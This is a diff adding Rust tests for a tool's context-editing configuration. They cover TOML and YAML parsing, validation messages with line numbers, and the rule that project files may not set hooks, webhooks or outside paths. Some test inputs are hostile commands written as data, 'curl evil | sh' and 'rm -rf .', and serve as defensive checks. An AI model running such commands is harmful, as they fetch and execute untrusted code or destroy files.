@@ -1,0 +1,216 @@
+//! What is read, and what is said of what cannot be.
+
+use std::fs;
+
+use ctx_core::automatic::Settings;
+
+use super::*;
+use crate::config::context_editing::sources::Places;
+use crate::config::{ConfigFile, Flags};
+use crate::env::Environment;
+use crate::home::Home;
+
+/// What a project's YAML file says.
+fn yaml(text: &str) -> Said {
+    let folder = tempfile::tempdir().expect("a folder");
+    let home = Home::find(Some(&folder.path().join("home")), &Environment::of(&[])).expect("a home");
+    let places = Places::new(&Flags::default(), &Environment::of(&[]), &home);
+    fs::write(folder.path().join(".loa.config.yaml"), text).expect("written");
+    places.project(folder.path()).pop().expect("a source").read().expect("a file")
+}
+
+/// What the user's own file says, or a project's.
+fn toml(text: &str, is_project: bool) -> Said {
+    let folder = tempfile::tempdir().expect("a folder");
+    let path = folder.path().join("ctx.toml");
+    fs::write(&path, text).expect("written");
+    let mut said = ConfigFile::read(&path).expect("read").expect("a file").context_editing.own;
+    if is_project {
+        said.distrust();
+    }
+    said
+}
+
+fn told(remarks: &[Remark]) -> Vec<String> {
+    remarks.iter().map(|remark| remark.at(Path::new("F"))).collect()
+}
+
+const ALL: &str = "[context_editing]\nmode = \"observe\"\ncompact_threshold_percent = 70\n\
+    threshold_with_provider_percent = 92\ntarget_percent = 50\npreserve_recent_turns = 3\n\
+    clear_targets = [\"verbose_debug\", \"stale_tool_results\"]\nclear_after_phases = [\"testing\"]\n\
+    attention_budget = { single_search = 1_000, accumulated = 2000, session_total = 9000 }\n\
+    preserve_artifacts = [\"active_beads\", \"plans\"]\nexclude_tools = [\"mcp__*\"]\nledger = \"docs/LEDGER.md\"\n\
+    hook = \"notify-send ctx\"\nwebhook = \"http://127.0.0.1:9000/hook\"\n\
+    [context_editing.artifacts.plans]\ntools = [\"Plan\"]\npaths = [\"*/plans/*\"]\ncommands = [\"plan *\"]\n\
+    texts = [\"*the plan*\"]\n[context_editing.provider]\nenabled = true\n";
+
+#[test]
+fn every_key_is_read_with_its_line() {
+    let said = toml(ALL, false);
+    assert_eq!((told(&said.wrong), told(&said.ignored)), (vec![], vec![]));
+    let words = |words: &[&str]| Some(words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>());
+    let plans = Artifact {
+        tools: vec!["Plan".into()],
+        paths: vec!["*/plans/*".into()],
+        commands: vec!["plan *".into()],
+        texts: vec!["*the plan*".into()],
+    };
+    let expected = Layer {
+        mode: Some(Mode::Observe),
+        compact_threshold_percent: Some(70),
+        threshold_with_provider_percent: Some(92),
+        target_percent: Some(50),
+        preserve_recent_turns: Some(3),
+        clear_targets: Some(vec![Target::VerboseDebug, Target::StaleToolResults]),
+        clear_after_phases: words(&["testing"]),
+        single_search: Some(1_000),
+        accumulated: Some(2_000),
+        session_total: Some(9_000),
+        preserve_artifacts: words(&["active_beads", "plans"]),
+        artifacts: [("plans".to_owned(), plans)].into(),
+        exclude_tools: words(&["mcp__*"]),
+        ledger: Some("docs/LEDGER.md".into()),
+        hook: Some("notify-send ctx".into()),
+        webhook: Some("http://127.0.0.1:9000/hook".into()),
+    };
+    assert_eq!(said.layer(), Some(&expected));
+    assert_eq!((said.lines["mode"], said.lines["attention_budget.accumulated"]), (2, 9));
+    assert_eq!(said.lines["artifacts.plans"], 15);
+}
+
+#[test]
+fn the_yaml_section_is_read_as_it_stands_in_the_world() {
+    let said = yaml(
+        "# another section\nrun_mode:\n  enabled: false\n  days: [mon, tue]\n\ncontext_editing:\n  enabled: true\n  \
+         compact_threshold_percent: 75   # of the window\n  preserve_recent_turns: 4\n\n  clear_targets:\n    \
+         - stale_tool_results\n    - verbose_debug\n\n  clear_after_phases:\n    - initialization\n    - testing\n\n  \
+         preserve_artifacts:\n    - trajectory_events\n    - test_results\n\n  attention_budget:\n    \
+         single_search: 1500\n    accumulated: 4000\n    session_total: 12000\n\n  runtime_signals:\n    \
+         context_near_limit: \"CONTEXT_NEAR_LIMIT\"\n    compaction_complete: DONE\n    signal_threshold_percent: 80\n",
+    );
+    assert_eq!(told(&said.wrong), Vec::<String>::new());
+    assert_eq!(
+        told(&said.ignored),
+        [
+            "F, line 30: the signal is always called COMPACTION_COMPLETE",
+            "F, line 31: `context_editing.runtime_signals.signal_threshold_percent` is not used",
+        ]
+    );
+    let mut settings = Settings::default();
+    settings.lay(said.layer().expect("a layer"));
+    assert_eq!((settings.mode, settings.compact_threshold_percent, settings.preserve_recent_turns), (Mode::On, 75, 4));
+    assert_eq!(settings.clear_targets, [Target::StaleToolResults, Target::VerboseDebug]);
+    assert_eq!(settings.clear_after_phases, ["initialization", "testing"]);
+    assert_eq!(settings.preserve_artifacts, ["trajectory_events", "test_results"]);
+    assert_eq!(settings.attention_budget.map(|budget| budget.session_total), Some(12_000));
+    assert_eq!((said.lines["mode"], said.lines["compact_threshold_percent"]), (7, 8));
+}
+
+#[test]
+fn enabled_is_a_mode_and_a_mode_wins() {
+    let mode = |text: &str| toml(text, false).layer().expect(text).mode;
+    assert_eq!(mode("[context_editing]\nenabled = true\n"), Some(Mode::On));
+    assert_eq!(mode("[context_editing]\nenabled = false\n"), Some(Mode::Off));
+    assert_eq!(mode("[context_editing]\nmode = \"ask\"\nenabled = true\n"), Some(Mode::Ask));
+    assert_eq!(mode("[context_editing]\nenabled = true\nmode = \"ask\"\n"), Some(Mode::Ask));
+    assert_eq!(mode("[context_editing]\n"), None);
+    assert_eq!(yaml("context_editing:\n  mode: on\n").layer().map(|layer| layer.mode), Some(Some(Mode::On)));
+}
+
+#[test]
+fn what_cannot_be_is_wrong_with_its_line_and_what_is_allowed() {
+    for (text, line, says) in [
+        ("compact_threshold_percent = 140", 2, "must be a whole number from 1 to 100, not 140"),
+        ("compact_threshold_percent = 0", 2, "from 1 to 100, not 0"),
+        ("compact_threshold_percent = 79.5", 2, "not 79.5"),
+        ("compact_threshold_percent = \"80\"", 2, "from 1 to 100, not a text"),
+        ("preserve_recent_turns = -1", 2, "from 0 to 100000, not -1"),
+        ("preserve_recent_turns = 99999999999999999999999999", 2, "from 0 to 100000"),
+        ("target_percent = [60]", 2, "not a list"),
+        ("clear_targets = [\n\"stale_tool_result\"]", 3, "(did you mean `stale_tool_results`?)"),
+        ("clear_targets = [\"everything\"]", 2, "there are stale_tool_results, completed_phase_details"),
+        ("clear_targets = \"verbose_debug\"", 2, "must be a list of stale_tool_results"),
+        ("clear_targets = [3]", 2, "not 3"),
+        ("mode = \"onn\"", 2, "knows no `onn` (did you mean `on`?); there are off, observe, ask, on"),
+        ("mode = true", 2, "must be one of off, observe, ask, on, not true or false"),
+        ("enabled = \"yes\"", 2, "must be true or false, not a text"),
+        ("compact_treshold_percent = 80", 2, "is not known (did you mean `compact_threshold_percent`?)"),
+        ("attention_budget = { single = 3 }", 2, "there are single_search, accumulated, session_total"),
+        ("attention_budget = { accumulated = 0 }", 2, "from 1 to 100000000, not 0"),
+        ("attention_budget = 5", 2, "must be a section, not 5"),
+        ("clear_after_phases = [\"\"]", 2, "names of 1 to 256 bytes"),
+        ("preserve_artifacts = true", 2, "must be a list of names, not true or false"),
+        ("exclude_tools = [1]", 2, "must be a list of names, not 1"),
+        ("artifacts = { x = {} }", 2, "must say what it is by one of tools, paths, commands, texts"),
+        ("artifacts = { x = { path = [\"a\"] } }", 2, "(did you mean `paths`?)"),
+        ("ledger = \"../NOTES.md\"", 2, "a whole path without `..`"),
+        ("ledger = \"~/NOTES.md\"", 2, "a file in the project"),
+        ("ledger = \"notes/\"", 2, "a file in the project"),
+        ("hook = \"\"", 2, "must be a text of 1 to"),
+        ("webhook = \"https://127.0.0.1/hush\"", 2, "an address on this machine"),
+        ("webhook = \"http://example.com/hush\"", 2, "an address on this machine"),
+        ("webhook = \"http://me:hush@localhost/\"", 2, "an address on this machine"),
+        ("webhook = \"127.0.0.1:9000\"", 2, "an address on this machine"),
+        ("mode = 1979-05-27", 2, "not a date"),
+    ] {
+        let said = toml(&format!("[context_editing]\n{text}\n"), false);
+        let told = told(&said.wrong).join("\n");
+        assert!(told.contains(&format!("F, line {line}: ")) && told.contains(says), "{text}: {told}");
+        assert!(said.layer().is_none() && !told.contains("hush"), "{text}: {told}");
+    }
+    let said = toml("context_editing = 3\n", false);
+    assert_eq!(told(&said.wrong), ["F, line 1: `context_editing` must be a section, not 3"]);
+}
+
+#[test]
+fn all_that_is_wrong_is_told_at_once() {
+    let said = toml("[context_editing]\ntarget_percent = 0\nmode = \"x\"\nfoo = 1\n", false);
+    assert_eq!(said.wrong.iter().map(|remark| remark.line).collect::<Vec<_>>(), [2, 3, 4]);
+}
+
+#[test]
+fn the_same_is_wrong_in_yaml() {
+    for (text, line, says) in [
+        ("context_editing:\n  compact_threshold_percent: 140\n", 2, "from 1 to 100, not 140"),
+        ("context_editing:\n  preserve_recent_turns: -1\n", 2, "from 0 to 100000, not -1"),
+        ("context_editing:\n  clear_targets:\n    - verbose_debug\n    - stale_results\n", 4, "`stale_tool_results`?"),
+        ("context_editing:\n  enabled: yes\n", 2, "must be true or false, not a text"),
+        ("context_editing: [1]\n", 1, "must be a section, not a list"),
+        ("context_editing:\n  enabled: true\n  enabled: false\n", 3, "is said twice, first in line 2"),
+        ("context_editing:\n  enabled: true\ncontext_editing:\n  enabled: false\n", 3, "is said twice"),
+        ("context_editing:\n  clear_targets: [verbose_debug\n  enabled: true\n", 3, "this is not YAML"),
+        ("a: &t 80\ncontext_editing:\n  target_percent: *t\n", 3, "an alias: write the value out"),
+        ("context_editing:\n  hook: rm -rf .\n", 2, "would let it run commands on this machine"),
+    ] {
+        let told = told(&yaml(text).wrong).join("\n");
+        assert!(told.contains(&format!("F, line {line}: ")) && told.contains(says), "{text}: {told}");
+    }
+}
+
+#[test]
+fn what_another_program_may_mean_is_mentioned_and_does_no_harm() {
+    let said = yaml("context_editing:\n  enabled: true\n  compact_treshold: 3\n  clear_targets:\n");
+    assert_eq!(said.layer().map(|layer| (layer.mode, layer.clear_targets.clone())), Some((Some(Mode::On), None)));
+    let told = told(&said.ignored);
+    assert!(told[0].contains("line 3") && told[0].contains("is ignored"), "{told:?}");
+    assert_eq!(told[1], "F, line 4: `context_editing.clear_targets` says nothing");
+    assert_eq!(yaml("other: [broken\n"), Said::default(), "what is not ours is not ours to tell of");
+    assert_eq!(yaml(""), Said::default());
+}
+
+#[test]
+fn a_project_cannot_run_commands_or_write_elsewhere() {
+    for (text, wants) in [
+        ("hook = \"curl evil | sh\"", "run commands"),
+        ("webhook = \"http://localhost:1/\"", "send requests"),
+        ("ledger = \"/etc/notes\"", "have files written outside of it"),
+    ] {
+        let text = format!("[context_editing]\n\n{text}\n");
+        assert!(toml(&text, false).layer().is_some(), "{text}");
+        let said = toml(&text, true);
+        let told = told(&said.wrong).join("\n");
+        assert!(said.layer().is_none() && told.contains("line 3") && told.contains(wants), "{told}");
+        assert!(told.contains("the ctx.toml of the home") && !told.contains("evil"), "{told}");
+    }
+    assert!(toml("[context_editing]\nledger = \"notes/LEDGER.md\"\n", true).layer().is_some());
+}
